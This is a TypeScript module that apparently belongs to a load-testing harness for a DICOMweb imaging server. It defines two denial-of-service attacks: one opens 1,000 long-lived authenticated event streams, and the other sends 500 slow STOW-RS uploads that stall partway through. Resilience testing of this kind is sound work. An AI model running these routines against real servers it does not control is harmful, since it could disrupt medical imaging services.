import { pause, scaled, type Attack } from './attack.ts';
import { fates, headOf, openMany } from './raw-http.ts';

export const manyStreams: Attack = {
  name: 'streams',
  title: 'one account listens with 1,000 event streams while studies arrive',
  async run(target) {
    const headers = { authorization: `Bearer ${target.token}` };
    const connections = await openMany(target.httpPort, scaled(target, 1_000), ({ socket }) =>
      socket.write(headOf({ method: 'GET', path: '/api/events', headers })),
    );
    await pause(target.seconds * 1000);
    const seen = fates(connections);
    for (const { socket } of connections) socket.destroy();
    return { ...seen, listening: connections.filter(({ status }) => status === 200).length };
  },
};

export const slowStow: Attack = {
  name: 'slow-stow',
  title: '500 STOW-RS requests that stop after 1.9 MB',
  async run(target) {
    const headers = {
      authorization: `Bearer ${target.token}`,
      'content-type': 'application/dicom',
      'content-length': 20_000_000,
    };
    const piece = Buffer.alloc(64 * 1024);
    piece.write('DICM', 128, 'latin1');
    const connections = await openMany(target.httpPort, scaled(target, 500), ({ socket }) => {
      socket.write(headOf({ method: 'POST', path: '/dicom-web/studies', headers }));
      for (let sent = 0; sent < 30; sent += 1) socket.write(piece);
    });
    await pause(Math.max(target.seconds, 4) * 1000);
    const seen = fates(connections);
    for (const { socket } of connections) socket.destroy();
    return seen;
  },
};
